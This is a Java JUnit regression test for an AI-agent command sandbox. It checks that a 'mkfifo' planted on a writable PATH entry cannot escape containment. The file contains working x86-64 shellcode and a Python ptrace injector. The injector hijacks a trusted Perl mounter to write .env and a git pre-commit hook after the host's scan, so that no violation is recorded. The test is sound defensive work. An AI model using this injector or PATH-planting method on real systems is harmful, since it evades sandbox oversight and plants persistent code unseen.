package dev.monoagent.sandbox;

import dev.monoagent.host.HostEnv;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import dev.monoagent.config.Enums.NetworkMode;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The warm server (root of the user namespace that owns the shell's mount namespace) must start no tool a command
 * could plant. A tool looked up on the sandbox's PATH — the host's PATH as is, as {@code spawnSync('mkfifo', …)} to
 * refill output FIFOs would be — is not vetted the way {@code unshare} and {@code perl} are against agent-writable PATH
 * entries ({@code HostEnv.which}). With a PATH entry a command can write (a relative {@code node_modules/.bin} here), a
 * command plants {@code mkfifo}; after the 16th command's sweep the server would run it with every capability in its
 * namespace. The plant ptraces the Perl mounter (a baseline process, so neither the sweep nor the host's check sees
 * anything new) and makes it write the denied names three seconds later — after the host's scan and placeholder
 * removal, so no record would say so. The server runs each tool of its own by an absolute path the host vetted, makes
 * no FIFOs (the helper makes the commands' pipes with pipe(2)) and starts nothing after its own start-up (ADR 0021), so
 * the plant stays unused — this test keeps it that way for any tool a later change might start.
 */
class WarmServerPathHijackTest {
    /** x86-64: nanosleep 3 s; write .env; mkdir .git, .git/hooks; write .git/hooks/pre-commit; exit_group(0). */
    static final String SHELLCODE = "488d3d9400000031f6b8230000000f05488d3dab000000be41020000baa4010000b802000000"
            + "0f054889c7488d3579000000ba04000000b8010000000f05488d3d82000000beed010000b8530000000f05488d3d740000"
            + "00beed010000b8530000000f05488d3d6c000000be41020000baed010000b8020000000f054889c7488d3529000000ba13"
            + "000000b8010000000f05b8e700000031ff0f050300000000000000000000000000000050574e0a23212f62696e2f7368"
            + "0a6563686f2050574e0a2e656e76002e676974002e6769742f686f6f6b73002e6769742f686f6f6b732f7072652d636f"
            + "6d6d697400";

    static final String INJECTOR = String.join("\n",
            "#!/usr/bin/python3",
            "import ctypes, os, sys, struct",
            "SC = bytes.fromhex('" + SHELLCODE + "')",
            "def log(*a):",
            "    with open('/tmp/red2-mk.log', 'a') as f: print(*a, file=f)",
            "try:",
            "    libc = ctypes.CDLL(None, use_errno=True)",
            "    libc.ptrace.restype = ctypes.c_long",
            "    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]",
            "    tgt = None",
            "    for p in os.listdir('/proc'):",
            "        if not p.isdigit(): continue",
            "        try: cl = open('/proc/%s/cmdline' % p, 'rb').read()",
            "        except Exception: continue",
            "        if b'O_NOFOLLOW' in cl and b'perl' in cl.split(b'\\0')[0]:",
            // /proc is the outer (bwrap) pid namespace's; the server and its children live in apply-seccomp's
            "            tgt = int([l for l in open('/proc/%s/status' % p) if l.startswith('NSpid')][0].split()[-1])",
            "    log('mounter', tgt)",
            "    if tgt and not os.path.exists('/tmp/red2-done'):",
            "        open('/tmp/red2-done', 'w').close()",
            "        log('attach', libc.ptrace(16, tgt, None, None), ctypes.get_errno())",
            "        os.waitpid(tgt, 0)",
            "        regs = (ctypes.c_ulonglong * 27)()",
            "        log('getregs', libc.ptrace(12, tgt, None, ctypes.byref(regs)), ctypes.get_errno())",
            "        rip = regs[16]",
            "        data = SC + b'\\x90' * (-len(SC) % 8)",
            "        for i in range(0, len(data), 8):",
            "            w = struct.unpack('<Q', data[i:i + 8])[0]",
            "            r = libc.ptrace(5, tgt, ctypes.c_void_p(rip + i), ctypes.c_void_p(w))",
            "            if r != 0: log('poke', i, r, ctypes.get_errno())",
            "        regs[15] = 0xffffffffffffffff",
            "        log('setregs', libc.ptrace(13, tgt, None, ctypes.byref(regs)), ctypes.get_errno())",
            "        log('detach', libc.ptrace(17, tgt, None, None), ctypes.get_errno())",
            "except Exception as e:",
            "    log('err', repr(e))",
            "os.execv('/usr/bin/mkfifo', ['mkfifo'] + sys.argv[1:])",
            "");

    @TempDir
    Path tmp;

    private static String listing(Path ws) throws Exception {
        try (Stream<Path> s = Files.walk(ws)) {
            return s.filter(p -> !p.startsWith(ws.resolve(".mono-agent"))).map(p -> ws.relativize(p).toString())
                    .toList().toString();
        }
    }

    @Test
    void aMkfifoPlantedOnThePathRunsWithTheServersCapabilitiesAndWritesDeniedNamesUnrecorded() throws Exception {
        boolean was = NativeEngine.warmDefault;
        NativeEngine.warmDefault = true;
        Path ws = Files.createDirectories(tmp.resolve("ws")).toRealPath();
        HostEnv base = TestEngine.env();
        // a PATH with a project-relative entry first (common for node projects); nothing else differs
        HostEnv env = base.withPath("node_modules/.bin:" + base.path());
        try (Sandbox sb = Sandbox.open(TestEngine.config(ws, NetworkMode.NONE, List.of()), new TestEngine.Events(),
                env)) {
            assertEquals("ready", sb.status().state(), String.valueOf(sb.status().reason()));
            String run = "run-" + UUID.randomUUID();
            String plant = "mkdir -p node_modules/.bin && cat > node_modules/.bin/mkfifo <<'X'\n" + INJECTOR
                    + "X\nchmod +x node_modules/.bin/mkfifo; echo planted";
            var p = TestEngine.bash(sb, ws, plant, run, "plant", Duration.ofSeconds(60));
            assertEquals(0, p.exitCode(), p.stderr());
            StringBuilder vs = new StringBuilder(p.violations().toString());
            String log = "";
            // 16 commands: the server once refilled its 16 FIFO pairs with mkfifo after the 16th
            for (int i = 0; i < 16 && log.isEmpty(); i++) {
                var r = TestEngine.bash(sb, ws, "cat /tmp/red2-mk.log 2>/dev/null", run, "c" + i,
                        Duration.ofSeconds(60));
                vs.append(r.violations());
                log = r.stdout().strip();
            }
            Thread.sleep(5000);
            var next = TestEngine.bash(sb, ws, "true", run, "next", Duration.ofSeconds(60));
            vs.append(next.violations());
            Path envFile = ws.resolve(".env");
            Path hook = ws.resolve(".git/hooks/pre-commit");
            boolean written = Files.exists(envFile, LinkOption.NOFOLLOW_LINKS) && Files.size(envFile) > 0;
            boolean hooked = Files.exists(hook, LinkOption.NOFOLLOW_LINKS);
            boolean recorded = vs.toString().contains(".env") || vs.toString().contains("pre-commit");
            assertFalse(written || hooked, "ESCAPE" + (recorded ? "" : " + WRONG RECORD (no record names them)")
                    + ": a mkfifo planted on the sandbox PATH ran as root of the warm server's user namespace after "
                    + "a sweep, ptraced the Perl mounter (a baseline process) and had it write the denied names on "
                    + "the host after the host's scan: .env='" + (written ? Files.readString(envFile).strip() : "")
                    + "', .git/hooks/pre-commit present=" + hooked + "; host workspace: " + listing(ws)
                    + "; injector log: " + log.replace('\n', ' ') + "; violations naming them: "
                    + vs.toString().contains(".env"));
        } finally {
            NativeEngine.warmDefault = was;
        }
    }
}
